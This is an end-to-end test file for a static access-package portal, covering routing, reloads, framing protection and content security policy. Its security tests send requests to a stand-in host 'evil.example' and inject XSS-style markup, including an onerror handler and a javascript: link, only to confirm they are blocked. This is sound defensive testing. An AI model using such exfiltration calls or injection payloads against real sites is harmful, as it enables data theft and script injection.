// The portal is static files: any host serves it, in any folder, and a reload keeps the page.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from '../support/journey.mjs';
import { Portal } from '../support/portal.mjs';
import { portalDist } from '../support/programs.mjs';

const PAGES = {
  '': 'Access packages',
  'index.html': 'Access packages',
  home: 'Home',
  assign: 'New assignment',
  assignments: 'Assignments',
  requests: 'Requests',
  check: 'Check JSON',
  'rule-list': 'Rules',
  connect: 'Connect a tenant',
  host: 'Check this host',
};

test('each page can be reloaded', async ({ demo }) => {
  for (const [address, heading] of Object.entries(PAGES)) {
    await demo.open(address);
    await expect(demo.heading(heading)).toBeVisible();
  }
});

test('the address follows the page, and so do Back and Forward', async ({ demo, page }) => {
  await demo.open();
  await page.getByRole('link', { name: 'Sales CRM' }).click();
  await expect(demo.heading('Sales CRM')).toBeVisible();
  await expect(page).toHaveURL(/\/package\?id=[0-9a-f-]{36}$/);
  await page.getByRole('link', { name: 'New policy' }).click();
  await expect(demo.heading('New policy')).toBeVisible();
  await expect(page).toHaveURL(/\/policy\?package=/);
  await page.goBack();
  await expect(demo.heading('Sales CRM')).toBeVisible();
  await page.goForward();
  await expect(demo.heading('New policy')).toBeVisible();
  await demo.reload();
  await expect(demo.heading('New policy')).toBeVisible();
});

test('an unknown address shows an error page with a way back', async ({ demo }) => {
  await demo.open('nowhere');
  await expect(demo.heading('There is no such page')).toBeVisible();
  await demo.page.getByRole('main').getByRole('link').first().click();
  await expect(demo.heading('Access packages')).toBeVisible();
});

test('the portal works in a folder, and signing in returns there', async ({ page, world, emulator, provider }) => {
  const portal = new Portal(page, world.inFolder.url);
  await portal.open('check');
  await expect(portal.heading('Check JSON')).toBeVisible();
  await portal.signIn();
  await expect(page).toHaveURL(`${world.inFolder.url}check`);
  await portal.goTo('Access packages');
  await expect(page.getByRole('link', { name: 'Sales CRM' })).toBeVisible();
  await portal.signOut();
  await expect(page).toHaveURL(new RegExp(`^${world.inFolder.url}`));
});

test('the portal does not run in a frame of another page, on a host without headers', async ({ page, world }) => {
  const { headers } = world.demo;
  world.demo.headers = undefined;
  world.demo.files['around.html'] = `<link rel="icon" href="data:,"><iframe title="portal" src="${world.demo.url}"></iframe>`;
  await page.goto(`${world.demo.url}around.html`);
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('does not run inside another page')).toBeVisible();
  await expect(frame.getByRole('heading', { level: 1 })).toHaveCount(0);
  world.demo.headers = headers;
});

test('the page reaches no host but its own, the sign-in and Graph', async ({ demo, page, watch }) => {
  await demo.open();
  const blocked = await page.evaluate(async () => {
    const blocked = [];
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
    await fetch('https://evil.example/?secret').catch(() => {});
    const parts = { img: { src: 'https://evil.example/x.png' }, iframe: { src: 'https://evil.example/' }, base: { href: 'https://evil.example/' } };
    for (const [name, members] of Object.entries(parts)) document.body.append(Object.assign(document.createElement(name), members));
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
    return blocked;
  });
  expect(blocked).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'frame-src', 'base-uri', 'form-action']));
  expect(watch.problems).not.toEqual([]);
  watch.problems.length = 0;
});

test('markup that could do something becomes no elements of the page', async ({ demo, page, watch }) => {
  await demo.open();
  const made = await page.evaluate(() =>
    ['<b>word</b>', '<img src="x" onerror="alert(1)">', '<script>1</script>', '<iframe srcdoc="x"></iframe>', '<a href="javascript:1">x</a>'].map((markup) => {
      const place = document.createElement('div');
      try {
        place.innerHTML = markup;
      } catch {
        return 'refused';
      }
      return place.innerHTML;
    }),
  );
  expect(made).toEqual(['<b>word</b>', 'refused', 'refused', 'refused', 'refused']);
  watch.problems.length = 0;
});

test('no script gets in by its address', async ({ demo, page, watch }) => {
  await demo.open();
  const outcome = await page.evaluate(async () => {
    // what a test has run at once may use eval; the page itself may not
    await new Promise((resolve) => setTimeout(resolve));
    const tried = (work) => {
      try {
        return work() && 'taken';
      } catch {
        return 'refused';
      }
    };
    const script = document.createElement('script');
    return [
      tried(() => (script.src = new URL('picture.js', document.baseURI).href)),
      tried(() => (script.text = '1')),
      tried(() => new Worker(new URL('service-worker.js?', document.baseURI).href)),
      tried(() => eval('1')),
      tried(() => (script.src = new URL('service-worker.js', document.baseURI).href)),
    ];
  });
  // the last is the one script that the portal itself names by its address
  expect(outcome).toEqual(['refused', 'refused', 'refused', 'refused', 'taken']);
  // what the console has of it comes later
  await page.evaluate(() => console.error('that was all'));
  await expect.poll(() => watch.problems.splice(0).join()).toContain('that was all');
});

test('no wasm names a folder of the machine that it was built on', () => {
  const dist = portalDist();
  const wasm = readdirSync(dist, { recursive: true }).filter((name) => name.endsWith('.wasm'));
  expect(wasm.length).toBeGreaterThan(5);
  const telling = wasm.filter((name) => /[/\\](registry[/\\]src|\.cargo)[/\\]/.test(readFileSync(path.join(dist, name), 'latin1')));
  expect(telling).toEqual([]);
});
